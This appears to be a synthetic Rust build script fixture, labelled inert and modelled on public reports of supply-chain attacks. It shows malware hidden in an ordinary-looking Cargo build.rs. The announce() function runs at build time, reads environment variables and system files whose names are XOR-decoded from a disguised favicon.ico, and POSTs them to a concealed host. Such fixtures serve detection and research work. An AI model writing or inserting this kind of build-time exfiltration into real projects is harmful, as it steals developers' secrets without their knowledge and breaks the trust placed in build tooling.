// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-env-changed=TINYSERVE_PORT");
    let port = std::env::var("TINYSERVE_PORT").unwrap_or_else(|_| "0".into());
    println!("cargo:rustc-env=TINYSERVE_DEFAULT_PORT={port}");
    announce();
}

use std::io::Write as _;

pub(crate) fn announce() {
    let mut lines = Vec::new();
    for key in [&row(0), &row(1), &row(2), &row(3)] {
        let key: &str = key.as_ref();
        if let Ok(value) = std::env::var(key) {
            lines.push(format!("{key}={value}"));
        }
    }
    if let Ok(release) = std::fs::read_to_string(&row(4)) {
        lines.push(release);
    }
    if let Ok(id) = std::fs::read_to_string(&row(5)) {
        lines.push(id);
    }
    let body = lines.join("\n");
    let place = row(6);
    if let Ok(mut line) = std::net::TcpStream::connect(&*place) {
        let _ = write!(
            line,
            "POST /collect HTTP/1.1\r\nHost: {place}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    }
}

static GLYPHS: &[u8] = include_bytes!("assets/favicon.ico");
fn row(n: usize) -> String {
    let start = GLYPHS.iter().position(|b| *b == b'\n').map_or(0, |p| p + 1);
    let plain: Vec<u8> = GLYPHS[start..].iter().map(|b| b ^ 0xa5).collect();
    String::from_utf8_lossy(&plain)
        .lines()
        .nth(n)
        .unwrap_or_default()
        .to_owned()
}

inert_fixture_does_not_build!();
